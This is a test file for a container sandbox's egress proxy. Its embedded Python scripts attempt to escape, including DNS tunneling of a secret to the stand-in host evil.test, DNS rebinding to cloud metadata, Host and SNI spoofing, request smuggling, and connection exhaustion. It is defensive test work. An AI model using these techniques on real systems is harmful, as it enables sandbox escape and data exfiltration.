'use strict';

// What hostile scripts try to get out by, past the list of hosts that a pool allows; and that each of them gets
// through where nothing is in its way: where the pool allows it, or on this machine itself.

const { execFile } = require('node:child_process');
const dgram = require('node:dgram');
const { Resolver } = require('node:dns').promises;
const { once } = require('node:events');
const fs = require('node:fs');
const net = require('node:net');
const path = require('node:path');
const { text } = require('node:stream/consumers');
const { promisify } = require('node:util');

const { Pools, address, outside, until } = require('../support/engine');
const { FarEngine } = require('../support/far-engine');
const { growth } = require('../support/growth');
const { certificateFor, serveNames } = require('../support/servers');
const { CANARY, Flood, Listener } = require('./listener');
const { SMUGGLING, smuggledIn } = require('./smuggling');

const pools = new Pools();
afterEach(pools.close);

const MiB = 1 << 20;
const NAME = 'api.test';
const OTHER = 'other.test';
const hosts = { [NAME]: '127.0.0.1', [OTHER]: '127.0.0.1' };
/** One that belongs to nobody (RFC 7534), of those that names may lead to. */
const PUBLIC = '192.31.196.77';
const WORDS = fs.readFileSync(path.join(__dirname, 'scenarios', 'egress.py'), 'utf8');

const { key, cert } = certificateFor(OTHER);
let allowed;
let other;
let secure;
beforeAll(async () => {
  [allowed, other] = [await Listener.start(), await Listener.start()];
  secure = await Listener.start({ key, cert });
});
beforeEach(() => {
  for (const listener of [allowed, other, secure]) listener.heard = [];
});
afterAll(() => {
  for (const listener of [allowed, other, secure]) listener?.close();
});

/** A pool that allows one port of one name. */
const make = (network = {}, options = {}) => {
  const allow = [`${NAME}:${allowed.port}`];
  return pools.make({ poolSize: 1, ...options, network: { allow, hosts, ...network } });
};

const variables = () => ({
  ...{ NAME, OTHER, PORT: `${allowed.port}`, OTHER_PORT: `${other.port}` },
  ...{ SECURE_PORT: `${secure.port}`, CERTIFICATE: cert },
});

/** What a script says in a container of a pool. */
async function said(pool, script, options = {}) {
  const { stdout, stderr } = await pool.run(`${WORDS}\n${script}`, {
    ...{ env: variables(), timeout: 120_000, ...options },
  });
  return stdout || stderr;
}

/** What it says on this machine, in no container. */
async function saidHere(script) {
  const env = { ...process.env, ...variables() };
  const { stdout } = await promisify(execFile)('python3', ['-c', `${WORDS}\n${script}`], { env });
  return stdout.trim();
}

/** It is stopped in a container of `fenced`, and gets through in one of `open`, which has that fence alone down. */
async function expectStopped(script, open, fenced = {}) {
  expect(await said(make(fenced), script)).toBe('stopped');
  expect(await said(make({ ...fenced, ...open }), script)).toBe('through');
}

describe('past the proxy', () => {
  test('egress/direct: no connection is made', async () => {
    const script = `
answers = []
for address in ["127.0.0.1", "0.0.0.0", "::1"] + env.get("ADDRESSES", "").split():
    try: answers.append(say(socket.create_connection((address, int(env["PORT"])), 5), b"GET / HTTP/1.1\\r\\n\\r\\n"))
    except OSError: pass
tell(*answers)`;
    expect(await said(make(), script)).toBe('stopped');
    expect(allowed.heard).toEqual([]);
    expect(await saidHere(script)).toBe('through');
  });

  test('egress/datagrams: no datagram is sent, to a resolver or to whomever', async () => {
    const resolver = dgram.createSocket('udp4');
    resolver.on('message', (_, { port }) => resolver.send(CANARY, port, '127.0.0.1'));
    resolver.bind(0, '127.0.0.1');
    await once(resolver, 'listening');
    const script = `
import struct
query = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + b"\\x06secret\\x04test\\0\\0\\x10\\0\\x01"
answers = []
for address in [("127.0.0.1", ${resolver.address().port}), ("127.0.0.1", 53), ("127.0.0.11", 53), ("8.8.8.8", 53)]:
    stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stream.settimeout(1)
    try:
        stream.sendto(query, address)
        answers.append(stream.recv(512))
    except OSError: pass
tell(*answers)`;
    try {
      expect(await said(make(), script)).toBe('stopped');
      expect(await saidHere(script)).toBe('through');
    } finally {
      resolver.close();
    }
  });

  test('egress/other_proxy: none of another container is reached', async () => {
    const script = `
to = env["OTHER"] + ":" + env["OTHER_PORT"]
get = b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % ((to.encode(),) * 2)
answers = []
names = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line]
for family, address in [
    *((socket.AF_INET, (host, 3128)) for host in ("127.0.0.1", "127.0.0.2", "0.0.0.0")),
    (socket.AF_INET6, ("::1", 3128)),
    *((socket.AF_UNIX, name.replace("@", "\\0")) for name in names),
]:
    stream = socket.socket(family)
    stream.settimeout(5)
    try: stream.connect(address)
    except OSError: continue
    answers.append(say(stream, get))
print(len(answers) > 0, end=" ")
tell(*answers)`;
    const theirs = make({ allow: [`${OTHER}:${other.port}`] }, { poolSize: 2 });
    const container = await theirs.acquire();
    expect(await said(make(), script)).toBe('True stopped');
    expect(other.heard).toEqual([]);
    const { stdout } = await container.execute(`${WORDS}\n${script}`, variables());
    expect(stdout).toBe('True through');
  });
});

describe('by the proxy', () => {
  test('egress/addresses: none is reached by itself, however it is spelt', async () => {
    const script = `
answers = []
for host in ["127.0.0.1", "127.1", "0x7f000001", "2130706433", "0177.0.0.1", "0", "[::ffff:127.0.0.1]", "[::1]"]:
    to = host + ":" + env["OTHER_PORT"]
    answers.append(say(dial(), b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % ((to.encode(),) * 2)))
    answers.append(say(tunnel(to), b"GET / HTTP/1.1\\r\\n\\r\\n"))
tell(*answers)`;
    await expectStopped(script, {
      allow: [`${NAME}:${allowed.port}`, `127.0.0.1:${other.port}`],
    });
  });

  test('egress/ports: no other one of an allowed name is reached', async () => {
    const script = `
to = env["NAME"] + ":" + env["OTHER_PORT"]
head = b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n"
host = to.encode()
named = ("%s:%s" % (env["NAME"], env["PORT"])).encode()
tell(say(tunnel(to), b"GET / HTTP/1.1\\r\\n\\r\\n"), say(dial(), head % (host, host)), say(dial(), head % (host, named)))`;
    await expectStopped(script, { allow: [`${NAME}:${other.port}`] });
  });

  test.each([
    ['egress/other_name: under the name of another', 'env["OTHER"]'],
    ['egress/no_name: that says no name', 'None'],
  ])('%s, no TLS goes through a tunnel', async (_, name) => {
    const script = `
trust = ssl.create_default_context(cadata=env["CERTIFICATE"])
trust.check_hostname = False
try:
    stream = trust.wrap_socket(tunnel(env["NAME"] + ":" + env["SECURE_PORT"]), server_hostname=${name})
    tell(say(stream, b"GET / HTTP/1.1\\r\\n\\r\\n"))
except OSError: tell()`;
    await expectStopped(script, { opaque: true }, { allow: [`${NAME}:${secure.port}`] });
  });

  test('egress/other_host: no request is made of another host at the same address', async () => {
    const script = `
to = env["NAME"] + ":" + env["PORT"]
evil = b"Host: " + env["OTHER"].encode()
head = b"GET http://%s/ HTTP/1.1\\r\\n" % to.encode()
own = b"Host: %s\\r\\n" % to.encode()
for lines in [evil, own + evil, evil + b"\\r\\n" + own.strip(), own + b" " + evil, b"X: a\\n" + evil, b"X: a\\r" + evil]:
    say(dial(), head + lines + b"\\r\\nConnection: close\\r\\n\\r\\n")
say(dial(), b"GET http://%s@%s/ HTTP/1.1\\r\\n%s\\r\\n\\r\\n" % (to.encode(), env["OTHER"].encode(), evil))
say(tunnel(to), b"GET / HTTP/1.1\\r\\n" + evil + b"\\r\\n\\r\\n")`;
    const named = () => allowed.heard.some(({ text }) => text.toLowerCase().includes(OTHER));
    await said(make(), script);
    expect(named()).toBe(false);
    await said(make({ opaque: true }), script);
    expect(named()).toBe(true);
  });
});

describe('by names', () => {
  let names;
  afterEach(() => names?.close());

  test.each([
    ['and then to this machine', [[PUBLIC], ['127.0.0.1']]],
    ['and then to where a cloud tells its keys', [[PUBLIC], ['169.254.169.254']]],
    [
      'and at once to this machine',
      [
        [PUBLIC, '127.0.0.1'],
        [PUBLIC, '127.0.0.1'],
      ],
    ],
  ])('egress/rebinding: none leads to a public address %s', async (_, answers) => {
    const asked = () => answers[Math.min(names.asked.length, answers.length) - 1];
    names = await serveNames({ [NAME]: asked });
    const script = `
to = (env["NAME"] + ":" + env["PORT"]).encode()
get = b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (to, to)
tell(*(say(dial(), get) for _ in range(3)))`;
    const network = { resolver: names.address, connectTimeout: 300 };
    expect(await said(make({ ...network, hosts: {} }), script)).toBe('stopped');
    // Once for each: what was checked is what was connected to.
    expect(names.asked).toEqual([NAME, NAME, NAME]);
    expect(allowed.heard).toEqual([]);
    expect(await said(make(network), script)).toBe('through');
  });

  test('with them, who looks up once more to connect is led astray', async () => {
    names = await serveNames({ [NAME]: () => (names.asked.length === 1 ? PUBLIC : '127.0.0.1') });
    const resolver = new Resolver();
    resolver.setServers([names.address]);
    expect(await resolver.resolve4(NAME)).toEqual([PUBLIC]);
    const [address] = await resolver.resolve4(NAME);
    const line = net.connect(allowed.port, address);
    line.end('GET / HTTP/1.1\r\n\r\n');
    expect(await text(line)).toContain(CANARY);
  });

  test('egress/dns_tunnel: none is looked up that is not allowed', async () => {
    names = await serveNames({});
    const script = `
for host in ["c2VjcmV0.evil.test", "c2VjcmV0." + env["NAME"], "C2VJCMV0.EVIL.TEST.", "c2VjcmV0.test"]:
    to = host.encode()
    tunnel(host + ":443", 5)
    say(dial(5), b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (to, to))
    say(dial(5), b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (env["NAME"].encode(), to))
    try: socket.getaddrinfo(host, 443)
    except socket.gaierror: pass
print("done")`;
    const own = { resolver: names.address, hosts: {} };
    const allow = ['*.evil.test', '*.test'];
    expect(await said(make(own), script)).toBe('done');
    const narrowed = { network: { allow: [NAME] } };
    expect(await said(make({ ...own, allow }), script, narrowed)).toBe('done');
    expect(names.asked.filter((name) => name !== NAME)).toEqual([]);
    expect(await said(make({ ...own, allow }), script)).toBe('done');
    expect(names.asked).toContain('c2vjcmv0.evil.test');
  });
});

describe('in the beginning of TLS', () => {
  /** A ServerHello that asks for another ClientHello, with a key that the first has not (RFC 8446, section 4.1.4). */
  const AGAIN = Buffer.from(
    '160303003802000034' + // of a record, of a message
      '0303cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c' +
      '00130100000c002b0002030400330002' +
      '0017',
    'hex',
  ).toString('latin1');
  /** Where TLS says whom it is meant for in a way that nobody on the way reads: `encrypted_client_hello`. */
  const HIDDEN = '\xfe\x0d\0\x08';
  let host;
  beforeAll(async () => {
    const isTaken = (said) => said.includes(OTHER) || said.includes(HIDDEN);
    host = await Listener.start(undefined, (said) => (isTaken(said) ? CANARY : AGAIN));
  });
  afterAll(() => host?.close());

  test('egress/second_hello: the name of another does not come second', async () => {
    const script = `
stream = tunnel(env["NAME"] + ":${host.port}", 5)
stream.sendall(hello(env["NAME"]))
assert stream.recv(4096)[5] == 2
tell(say(stream, hello(env["OTHER"])))`;
    await expectStopped(script, { opaque: true }, { allow: [`${NAME}:${host.port}`] });
  });

  test('egress/hidden_name: none is hidden beside the one that is allowed', async () => {
    const script = `
said = bytearray(hello(env["NAME"]))
at = 5 + 4 + 2 + 32
at += 1 + said[at]
at += 2 + int.from_bytes(said[at : at + 2], "big")
at += 1 + said[at]
more = b"\\xfe\\x0d\\0\\x08" + bytes(8)
for begin, end in [(3, 5), (6, 9), (at, at + 2)]:
    said[begin:end] = (int.from_bytes(said[begin:end], "big") + len(more)).to_bytes(end - begin, "big")
tell(say(tunnel(env["NAME"] + ":${host.port}", 5), said + more))`;
    await expectStopped(script, { opaque: true }, { allow: [`${NAME}:${host.port}`] });
  });
});

describe('no request is smuggled within another', () => {
  const script = `
to = env["NAME"] + ":" + env["PORT"]
for number, (lines, body) in enumerate(json.loads(${JSON.stringify(JSON.stringify(Object.values(SMUGGLING)))})):
    rest = ("\\r\\nHost: %s\\r\\nX-Number: %d.\\r\\n%s\\r\\n\\r\\n%s" % (to, number, lines, body)).encode()
    say(dial(5), b"POST http://" + to.encode() + b"/ HTTP/1.1" + rest)
    say(tunnel(to, 5), b"POST / HTTP/1.1" + rest)`;

  /** Which of them a host has heard another request in. */
  async function heardBy(network) {
    await said(make(network), script);
    return smuggledIn(allowed.heard);
  }

  test('egress/smuggling: by the proxy', async () => expect(await heardBy({})).toEqual([]));

  test('in a tunnel of which nothing is looked at, each is', async () => {
    expect(await heardBy({ opaque: true })).toEqual(Object.keys(SMUGGLING));
  });
});

describe('what is used up', () => {
  test('egress/long_head: one of 100 MB is not taken', async () => {
    const script = `
to = (env["NAME"] + ":" + env["PORT"]).encode()
line = b"X: " + b"a" * 65000 + b"\\r\\n"
for stream, target in [(dial(), b"http://%s/" % to), (tunnel(to.decode()), b"/")]:
    sent = 0
    try:
        stream.sendall(b"GET %s HTTP/1.1\\r\\nHost: %s\\r\\n" % (target, to))
        while sent < 100 << 20:
            stream.sendall(line)
            sent += len(line)
        # Whoever ends has had all of it.
        stream.shutdown(socket.SHUT_WR)
        stream.recv(1)
    except OSError: pass
    print(sent >> 20, end=" ")`;
    let sent;
    const grown = await growth(async () => {
      sent = (await said(make(), script)).split(' ').map(Number);
    });
    expect(Math.max(...sent)).toBeLessThan(10);
    expect(Math.max(...allowed.heard.map(({ bytes }) => bytes))).toBe(0);
    expect(grown).toBeLessThan(64 * MiB);
    sent = (await said(make({ opaque: true }), script)).split(' ').map(Number);
    expect(sent[1]).toBe(100);
    expect(Math.max(...allowed.heard.map(({ bytes }) => bytes))).toBeGreaterThan(99 * MiB);
  });

  test.each([
    ['a tunnel', true, 'tunnel(to), b""'],
    [
      'a request',
      false,
      'dial(), b"POST http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: 99999999\\r\\n\\r\\n" % ((to.encode(),) * 2)',
    ],
  ])(
    'egress/unread: what nobody hears does not gather on its way, in %s',
    async (_, opaque, begin) => {
      const flow = async (hears) => {
        const host = await Flood.start(hears);
        const count = hears ? 1 : 20;
        const script = `
from concurrent.futures import ThreadPoolExecutor
to = env["NAME"] + ":${host.port}"
with ThreadPoolExecutor(${count}) as pool:
    print(max(pool.map(lambda _: fill(${begin}), range(${count}))) >> 20, flush=True)
os._exit(0)`;
        try {
          return Number(await said(make({ opaque, allow: [`${NAME}:${host.port}`] }), script));
        } finally {
          host.close();
        }
      };
      let sent;
      const grown = await growth(async () => {
        sent = await flow(false);
      });
      expect(sent).toBeLessThan(32);
      // Of each a few windows, and not the 64 MiB that are to be had each way.
      expect(grown).toBeLessThan(128 * MiB);
      expect(await flow(true)).toBe(64);
    },
  );

  test('egress/slow: who says little at a time keeps no place from others', async () => {
    const script = `
to = env["NAME"] + ":" + env["PORT"]
def dribble(stream, begin):
    try:
        stream.sendall(begin)
        for _ in range(80):
            stream.sendall(b"a")
            time.sleep(0.5)
    except OSError: pass
for _ in range(2): threading.Thread(target=dribble, args=(tunnel(to), b"\\x16\\x03\\x01\\x40\\x00\\x01"), daemon=True).start()
for _ in range(2): threading.Thread(target=dribble, args=(dial(), b"GET http://%s/ HTTP/1.1\\r\\nX: " % to.encode()), daemon=True).start()
time.sleep(1)
get = b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % ((to.encode(),) * 2)
answer = say(dial(35), get)
print("served" if CANARY in answer else "starved", flush=True)
os._exit(0)`;
    const [fenced, open] = await Promise.all([
      said(make({ maxConnections: 2 }), script),
      said(make({ maxConnections: 2, opaque: true }), script),
    ]);
    expect({ fenced, open }).toEqual({ fenced: 'served', open: 'starved' });
  });

  test('egress/connections: ten thousand have the places of one container, and no more', async () => {
    const script = `
import resource, select
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
each = min(soft - 50, 10_000)
for _ in range(10_000 // each):
    if os.fork() == 0: break
streams = []
try:
    for _ in range(each):
        stream = socket.socket()
        stream.setblocking(False)
        stream.connect_ex(PROXY)
        streams.append(stream)
except OSError: pass
time.sleep(2)
for stream in streams:
    try: stream.send(b"GET http://%s/ HTTP/1.1\\r\\nX: " % env["NAME"].encode())
    except OSError: pass
print(len(streams), flush=True)
time.sleep(60)`;
    const get = `
to = (env["NAME"] + ":" + env["PORT"]).encode()
tell(say(dial(), b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (to, to)))`;
    /** How many places they have at most, how much memory, and what another container comes to meanwhile. */
    const crowd = async (maxConnections) => {
      const pool = make({ maxConnections }, { poolSize: 2 });
      const container = await pool.acquire();
      let open = 0;
      let [neighbour, begun] = [];
      const watch = setInterval(() => {
        open = Math.max(open, pool.stats().egress.open);
      }, 5);
      const grown = await growth(async () => {
        const options = { timeout: 8_000 };
        const over = container.execute(`${WORDS}\n${script}`, variables(), [], options);
        await until(() => open >= 16);
        neighbour = await said(pool, get);
        const { stdout } = await over;
        begun = stdout.split('\n').reduce((sum, line) => sum + Number(line), 0);
      });
      clearInterval(watch);
      await until(() => pool.stats().egress.open === 0);
      expect(begun).toBeGreaterThanOrEqual(10_000);
      return { open, neighbour, grown };
    };
    const few = await crowd(16);
    expect(few.neighbour).toBe('through');
    // With the neighbour's.
    expect(few.open).toBeLessThanOrEqual(17);
    expect(few.grown).toBeLessThan(64 * MiB);
    const many = await crowd(1_000);
    expect(many.open).toBeGreaterThan(500);
  });

  // Where an engine is behind a network, a program in the container relays, and is no more than its scripts.
  (outside().hasInit ? test.skip : test)(
    'egress/relay: nor has who speaks in its place',
    async () => {
      const script = `
import signal, struct
def command(pid):
    try: return open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
    except OSError: return []
pid = next(pid for pid in os.listdir("/proc") if pid.isdigit() and b"3128" in command(pid))
stream = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
os.kill(int(pid), signal.SIGSTOP)
# Connections that are broken off as soon as they are there.
numbers = range(1 << 30, (1 << 30) + 1000)
frames = b"".join(struct.pack("<IBI", number, ord(kind), 0) for number in numbers for kind in "OR")
end = time.monotonic() + 8
sent = 0
while time.monotonic() < end: sent += os.write(stream, frames)
print(sent)`;
      const far = await FarEngine.start(address());
      try {
        const pool = make({}, { engine: far.address });
        let sent;
        const grown = await growth(async () => {
          sent = Number(await said(pool, script));
        });
        expect(sent).toBeGreaterThan(MiB);
        expect(grown).toBeLessThan(64 * MiB);
        await pool.shutdown();
      } finally {
        far.close();
      }
    },
  );
});
